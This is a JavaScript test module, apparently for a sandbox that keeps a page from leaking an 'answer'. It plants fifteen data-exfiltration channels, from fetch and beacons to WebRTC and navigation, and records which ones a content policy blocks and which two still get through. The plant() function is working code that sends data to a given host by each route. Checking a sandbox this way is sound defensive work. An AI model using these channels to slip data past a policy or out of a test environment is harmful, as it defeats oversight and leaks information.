// Ways a page could give an answer away. Each is planted in the real page, and in a copy without its
// policy and its first script to show that it would be heard.

/**
 * What stops it on the page. opened: the policy refuses the request, but the browser has already
 * begun a connection, with nothing in it (Chromium 156). caught: nothing stops it, and this test
 * hears it.
 * @typedef {'policy' | 'removed' | 'opened' | 'caught'} Fate
 */

/** @type {{name: string, fate: Fate, why: string}[]} */
export const LEAKS = [
  { name: 'fetch', fate: 'removed', why: 'the function is removed, and the policy refuses it' },
  { name: 'XMLHttpRequest', fate: 'removed', why: 'the function is removed, and the policy refuses it' },
  { name: 'image', fate: 'policy', why: 'the policy refuses it' },
  { name: 'style', fate: 'policy', why: 'the policy refuses it' },
  { name: 'script', fate: 'policy', why: 'the policy refuses it' },
  { name: 'frame', fate: 'opened', why: 'the policy refuses the request; an empty connection may be begun' },
  { name: 'beacon', fate: 'removed', why: 'the function is removed, and the policy refuses it' },
  { name: 'form', fate: 'opened', why: 'the policy refuses the request; an empty connection may be begun' },
  { name: 'ping', fate: 'policy', why: 'the policy refuses it' },
  { name: 'socket', fate: 'removed', why: 'the function is removed, and the policy refuses it' },
  { name: 'server-sent events', fate: 'removed', why: 'the function is removed, and the policy refuses it' },
  { name: 'prefetch', fate: 'policy', why: 'the policy refuses it' },
  { name: 'WebRTC', fate: 'removed', why: 'the function is removed' },
  { name: 'WebRTC of a new frame', fate: 'caught', why: 'an empty frame has the function again' },
  { name: 'navigation', fate: 'caught', why: 'going to another page is under no rule' },
];

/**
 * Runs in the page.
 * @param {{name: string, host: string}} leak host: of an address that has the answer in it
 */
export function plant({ name, host }) {
  const address = `http://${host}/answer`;
  /** @param {string} tag @param {object} what @param {HTMLElement} [where] @returns {any} */
  const add = (tag, what, where = document.body) =>
    where.appendChild(Object.assign(document.createElement(tag), what));
  /** @param {any} owner */
  const call = (owner) => {
    const line = new owner.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] });
    line.createDataChannel('x');
    line.createOffer().then((/** @type {any} */ offer) => line.setLocalDescription(offer));
  };
  /** @type {Record<string, () => void>} */
  const ways = {
    fetch: () => void fetch(address, { mode: 'no-cors' }).catch(() => {}),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open('GET', address);
      request.send();
    },
    image: () => void (new Image().src = address),
    style: () => void document.body.style.setProperty('background-image', `url("${address}")`),
    script: () => add('script', { src: address }),
    frame: () => add('iframe', { src: address }),
    beacon: () => void navigator.sendBeacon(address, 'answer'),
    form: () => {
      add('iframe', { name: 'target' });
      add('form', { action: address, method: 'post', target: 'target' }).submit();
    },
    ping: () => add('a', { href: '#', ping: address }).click(),
    socket: () => void new WebSocket(address.replace('http', 'ws')),
    'server-sent events': () => void new EventSource(address),
    prefetch: () => add('link', { rel: 'prefetch', href: address }, document.head),
    WebRTC: () => call(window),
    'WebRTC of a new frame': () => call(add('iframe', {}).contentWindow),
    navigation: () => void (location.href = address),
  };
  try {
    ways[name]();
    return '';
  } catch (error) {
    return String(error);
  }
}
